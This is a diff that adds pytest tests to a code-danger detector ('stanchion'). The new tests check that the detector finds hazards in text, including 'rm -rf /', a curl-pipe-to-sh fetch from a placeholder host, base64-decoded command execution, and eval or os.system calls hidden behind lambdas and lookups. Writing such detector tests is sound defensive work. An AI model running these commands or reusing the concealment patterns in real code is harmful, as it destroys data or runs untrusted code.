@@ -10,8 +10,9 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from reading import ask, read, registry, span
 
-from stanchion.core.errors import MissingExtraError, UsageError
+from stanchion.core.errors import JudgementError, MissingExtraError, UsageError
 from stanchion.core.taxonomy import taxonomy
+from stanchion.detectors.code import MOST_TEXT
 from stanchion.detectors.code_blocks import blocks_of
 from stanchion.detectors.code_rules import code_rules, token_dangers
 from stanchion.detectors.code_tokens import LANGUAGES, strip
@@ -188,6 +189,104 @@ def test_hostile_code_ends_soon(code: str, language: str) -> None:
     ask(registry().create("code", language=language), code)
     ask(registry().create("code", language=language), f"```{language}\n{code}\n```")
     assert time.process_time() - started < 8
+
+
+@pytest.mark.parametrize(
+    "filler",
+    [
+        "`os.path` ",
+        "```py\na = 1\n```\n",
+        "```text\nwords\n```\n",
+        "```py\neval(a)\n```\n",
+        f"```py\nx = [{'a, ' * 60_000}]\n```\n",
+    ],
+    ids=["spans", "fences", "words", "findings", "nodes"],
+)
+def test_what_stands_behind_many_pieces_is_read_too(filler: str) -> None:
+    text = filler * (300_000 // len(filler)) + "\n```sh\nrm -rf /\n```"
+    found = read("code", text, least=0.9)
+    assert (found[-1].rule, span(text, found[-1])) == ("shell.remove_root", "rm -rf /\n")
+
+
+def test_a_large_piece_is_read_to_its_end() -> None:
+    text = "```py\n" + "a = 1\n" * 60_000 + "eval(x)\n```"
+    assert [span(text, finding) for finding in read("code", text)] == ["eval(x)"]
+    assert "python.eval" in rules("x = [" + "a, " * 60_000 + "eval(x)]", language="python")
+
+
+def test_a_rule_that_holds_very_often_covers_the_rest_with_its_last_finding() -> None:
+    text = "```js\n" + "eval(x)\n" * 3000 + "```\n" + "`eval(a)` " * 3000
+    found = read("code", text)
+    assert len(found) <= 2002
+    covered = [(f.location.start, f.location.end) for f in found]
+    for at in (text.index("eval"), text.index("```\n`") - 8, text.rindex("eval")):
+        assert any(start <= at < end for start, end in covered)
+
+
+def test_a_text_too_long_to_be_read_is_a_failed_check() -> None:
+    with pytest.raises(JudgementError, match="1,000,000"):
+        read("code", "a" * (MOST_TEXT + 1))
+    assert read("code", "a" * MOST_TEXT) == []
+
+
+@pytest.mark.parametrize(
+    ("code", "rule", "score"),
+    [
+        ("from os import *; system('id')", "python.command", 0.4),
+        ("from os import *; system(s)", "python.command", 0.9),
+        ("[eval][0](s)", "python.eval", 0.9),
+        ("x = [print, eval]\nx[-1](s)", "python.eval", 0.9),
+        ("{'a': eval}['a'](s)", "python.eval", 0.9),
+        ("(lambda: eval)()(s)", "python.eval", 0.9),
+        ("f = lambda: eval\nf()(s)", "python.eval", 0.9),
+        ("(e := eval)(s)", "python.eval", 0.9),
+        ("(eval if s else print)(s)", "python.eval", 0.9),
+        ("os.system('rm -rf /'", "shell.remove_root", 0.9),
+        ("import os\nos.system(cmd", "python.command", 0.9),
+        (f"os.system(f'{'{a}' * 201}')", "python.command", 0.9),
+        (f"subprocess.run([{'1, ' * 201}x], shell=True)", "python.shell_true", 0.9),
+    ],
+)
+def test_names_behind_detours_and_code_that_was_cut(code: str, rule: str, score: float) -> None:
+    assert rule in python(code, score)
+
+
+@pytest.mark.parametrize(
+    "code",
+    ["[print, eval][0](s)", "{'a': eval}['b'](s)", "(lambda: print)()(s)", "from os import *; path(s)"],
+)
+def test_detours_to_harmless_names_are_left_alone(code: str) -> None:
+    assert python(code, 0.3) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        ("<script>eval(x)</script>", "js.eval"),
+        ("```html\n<p>\n<script type='module'>\neval(x)", "js.eval"),
+        ("Do this:\n\n    import os\n    os.system(cmd)\n\nDone.", "python.command"),
+        ("```text\ncurl -s https://a.example/x | sh\n```", "shell.pipe_to_shell"),
+        ("```\nSo it\ngoes on\nand on\nand on\nrm -rf /\n```", "shell.remove_root"),
+        ('```sh\nbash -c "$(echo aGk= | base64 -d)"\n```', "shell.substitute_decode"),
+        ("```sh\n$(echo aGk= | base64 -d)\n```", "shell.substitute_decode"),
+        ("```sh\necho $(echo aGk= | base64 -d) | sh\n```", "shell.substitute_decode"),
+        (f"`cat {'/a ' * 400}; rm -rf /`", "shell.remove_root"),
+        (f"rm -rf / {'a' * 3000} | cat", "shell.remove_root"),
+    ],
+)
+def test_code_is_found_where_it_hides(text: str, rule: str) -> None:
+    assert rule in rules(text)
+
+
+def test_data_in_script_elements_is_not_code() -> None:
+    assert rules('<script type="application/ld+json">{"a": "eval(x)", "b": eval(x)}</script>') == []
+
+
+def test_names_that_go_round_in_circles_end_soon() -> None:
+    for piece in ("x = x + x\neval(x)\n", "x = [x if 1 else (x if 1 else x)][0]\nx()\n"):
+        started = time.process_time()
+        python(piece * 3000)
+        assert time.process_time() - started < 3
 
 
 def test_options_are_checked() -> None:
